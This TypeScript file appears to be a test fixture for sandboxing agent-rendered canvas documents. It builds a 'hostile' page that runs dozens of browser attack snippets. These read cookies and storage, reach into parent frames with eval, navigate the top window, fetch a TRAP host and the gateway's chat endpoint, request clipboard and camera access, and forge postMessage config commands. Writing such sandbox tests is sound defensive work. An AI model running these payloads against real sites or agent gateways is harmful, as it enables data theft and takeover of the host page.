/** Documents that try to access files and servers; each attack records its own success. */

/** A piece of script; what it passes to `won` is what it got. `TRAP` and `GATEWAY` are addresses. */
export interface Attack {
  readonly name: string;
  readonly script: string;
}

const storage = ['localStorage', 'sessionStorage'].map((name) => ({
  name: `reads ${name}`,
  script: `won(JSON.stringify({ ...${name} }))`,
}));

const others = ['parent', 'top'].flatMap((name) => [
  {
    name: `reads the document of ${name}`,
    script: `if (${name} !== self) won(${name}.document.documentElement.outerHTML)`,
  },
  { name: `reads the storage of ${name}`, script: `if (${name} !== self) won(JSON.stringify(${name}.localStorage))` },
  { name: `reads the address of ${name}`, script: `if (${name} !== self) won(${name}.location.href)` },
  { name: `defines something in ${name}`, script: `if (${name} !== self) { ${name}.hacked = 1; won('hacked'); }` },
  { name: `runs code in ${name}`, script: `if (${name} !== self) won(${name}.eval('document.cookie + 1'))` },
  {
    name: `opens an address of script in ${name}`,
    script: `${name} !== self && (${name}.location = 'javascript:window.hacked=1')`,
  },
]);

const navigation = [
  { name: 'leads itself elsewhere', script: "setTimeout(() => { location.href = TRAP + '/self'; }, LEAVES)" },
  { name: 'navigates the top', script: `if (top !== self) { top.location.href = TRAP + '/top'; }` },
  { name: 'replaces the top', script: `if (top !== self) top.location.replace(TRAP + '/top')` },
  {
    name: 'clicks a link to the top',
    script: `const a = document.createElement('a');
      a.href = TRAP + '/a';
      a.target = '_top';
      document.body.append(a);
      if (top !== self) a.click()`,
  },
  { name: 'opens a window', script: `const w = open(TRAP + '/window'); if (w) won('a window')` },
  { name: 'opens a window of the gateway', script: `const w = open(GATEWAY + '/'); if (w) won('a window')` },
  {
    name: 'clicks a link to a window',
    script: `const a = document.createElement('a');
      a.href = TRAP + '/blank';
      a.target = '_blank';
      document.body.append(a);
      a.click()`,
  },
  {
    name: 'sends a form',
    script: `const f = document.createElement('form');
      f.action = TRAP + '/form';
      f.target = '_top';
      document.body.append(f);
      f.submit()`,
  },
  {
    name: 'sends a form by a click',
    script: `const form = '<form action="' + TRAP + '/f2"><button id=go></button></form>';
      document.body.insertAdjacentHTML('beforeend', form);
      go.click()`,
  },
];

/** What a page notes that ran at all. */
export const RAN = 'the page ran';
/** Milliseconds until it leads itself elsewhere, and nothing can be asked of it any more. */
export const LEAVES_AFTER_MS = 2500;

/** A page that is alone in its tab may leave it, as any page may; in a frame it may not. */
export const MAY_ALONE = /^\/alone\/self$/;

const network = [
  { name: 'fetches the web', script: `fetch(TRAP + '/fetch').then((r) => r.text()).then(won)` },
  { name: 'fetches the web blindly', script: `fetch(TRAP + '/blind', { mode: 'no-cors' }).then(() => won('sent'))` },
  { name: 'sends a beacon', script: `navigator.sendBeacon(TRAP + '/beacon', 'x')` },
  { name: 'loads a picture', script: `new Image().src = TRAP + '/picture'` },
  {
    name: 'loads a script',
    script: `const s = document.createElement('script'); s.src = TRAP + '/script'; document.head.append(s)`,
  },
  {
    name: 'loads a style',
    script: `const l = document.createElement('link');
      l.rel = 'stylesheet';
      l.href = TRAP + '/style';
      document.head.append(l)`,
  },
  { name: 'loads by style', script: `document.body.style.background = 'url(' + TRAP + '/background)'` },
  { name: 'loads a font', script: `new FontFace('x', 'url(' + TRAP + '/font)').load()` },
  {
    name: 'loads a film',
    script: `const v = document.createElement('video'); v.src = TRAP + '/film'; document.body.append(v)`,
  },
  {
    name: 'frames the web',
    script: `const i = document.createElement('iframe'); i.src = TRAP + '/frame'; document.body.append(i)`,
  },
  {
    name: 'embeds an object',
    script: `const o = document.createElement('object'); o.data = TRAP + '/object'; document.body.append(o)`,
  },
  {
    name: 'fetches ahead',
    script: `const l = document.createElement('link');
      l.rel = 'prefetch';
      l.href = TRAP + '/prefetch';
      document.head.append(l)`,
  },
  {
    name: 'sets a base',
    script: `const b = document.createElement('base');
      b.href = TRAP;
      document.head.prepend(b);
      const i = new Image();
      i.src = 'based';
      `,
  },
  { name: 'opens events', script: `new EventSource(TRAP + '/events').onopen = () => won('open')` },
  { name: 'opens a socket', script: `new WebSocket(TRAP.replace('http', 'ws')).onopen = () => won('open')` },
  { name: 'imports a module', script: `import(TRAP + '/module').then(() => won('module'))` },
  { name: 'starts a worker of the web', script: `new Worker(TRAP + '/worker')` },
  {
    name: 'fetches from a worker',
    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + TRAP + "/worker-fetch')"])))`,
  },
];

const gateway = [
  ...[
    '/',
    '/healthz',
    '/v1/models',
    '/avatar/main',
    '/__openclaw__/canvas/',
    '/__openclaw__/canvas/documents/cv_shown/index.html',
  ].map((path) => ({
    name: `fetches ${path} of the gateway`,
    script: `fetch(GATEWAY + '${path}').then((r) => r.text()).then(won)`,
  })),
  {
    name: 'frames the Control UI',
    script: `const i = document.createElement('iframe');
      i.onload = () => { try { won(i.contentDocument.body.innerHTML || undefined) } catch {} };
      i.src = GATEWAY + '/';
      document.body.append(i)`,
  },
  { name: 'talks to the gateway', script: `new WebSocket(GATEWAY.replace('http', 'ws')).onopen = () => won('open')` },
  {
    name: 'asks for a turn',
    script: `fetch(GATEWAY + '/v1/chat/completions', { method: 'POST', body: '{}' }).then(() => won('asked'))`,
  },
  {
    name: 'frames another document',
    script: `const i = document.createElement('iframe');
      i.src = '../cv_shown/index.html';
      i.onload = () => { try { won(i.contentDocument.title || undefined) } catch {} };
      document.body.append(i)`,
  },
];

const machine = [
  { name: 'reads cookies', script: `won(document.cookie || undefined)` },
  { name: 'writes cookies', script: `document.cookie = 'a=1'; won(document.cookie || undefined)` },
  { name: 'opens a database', script: `indexedDB.open('x').onsuccess = () => won('open')` },
  { name: 'reads caches', script: `caches.keys().then((keys) => won('keys ' + keys))` },
  {
    name: 'registers a service worker',
    script: `navigator.serviceWorker.register('sw.js').then(() => won('registered'))`,
  },
  { name: 'shows a dialog', script: `if (top !== self) { alert('hello'); }` },
  { name: 'asks for the clipboard', script: `navigator.clipboard.readText().then(won)` },
  { name: 'asks for the place', script: `navigator.geolocation.getCurrentPosition(() => won('place'))` },
  {
    name: 'asks for the camera',
    script: `navigator.mediaDevices.getUserMedia({ video: true }).then(() => won('camera'))`,
  },
  { name: 'asks for notifications', script: `Notification.requestPermission().then((p) => p === 'granted' && won(p))` },
  { name: 'locks the pointer', script: `document.body.requestPointerLock?.().then(() => won('locked'))` },
  { name: 'fills the screen', script: `document.documentElement.requestFullscreen().then(() => won('full'))` },
  { name: 'reads where it came from', script: `won(document.referrer || undefined)` },
  { name: 'has an origin', script: `if (origin !== 'null') won(origin)` },
  {
    name: 'saves a file',
    script: `const a = document.createElement('a');
      a.href = 'data:text/plain,x';
      a.download = 'x.exe';
      document.body.append(a);
      a.click()`,
  },
  {
    name: 'talks as if it were the page',
    script: `parent !== self && parent.postMessage({ type: 'req', method: 'config.set', hacked: 1 }, '*')`,
  },
];

/** Every attack once. */
export const HOSTILE: readonly Attack[] = [...storage, ...others, ...network, ...gateway, ...machine, ...navigation];

/** A page that tries them one after the other; successes are in `results`. */
export const SHELL = (
  attacks: readonly Attack[],
  { trap, gateway: home }: { readonly trap: string; readonly gateway: string },
): string =>
  `<!doctype html><meta charset="utf-8"><title>hostile</title><body><h1>hostile</h1>
<img src="${trap}/static-picture">
<link rel="stylesheet" href="${trap}/static-style"><iframe src="${trap}/static-frame"></iframe>
<meta http-equiv="refresh" content="600;url=${trap}/refresh"><style>@import url('${trap}/import');</style>
<script>
  const TRAP = ${JSON.stringify(trap)} + (self === top ? '/alone' : '/framed'), GATEWAY = ${JSON.stringify(home)};
  globalThis.results = ['${RAN}'];
  const LEAVES = ${LEAVES_AFTER_MS};
  const attempt = (attack, name) => attack((what) => {
    if (what !== undefined) results.push(name + ': ' + String(what).slice(0, 80));
  }).catch(() => {});
${attacks
  .map(
    ({ name, script }) => `  try {
    attempt(async (won) => { ${script} }, ${JSON.stringify(name)});
  } catch {}`,
  )
  .join('\n')}
</script></body>`;
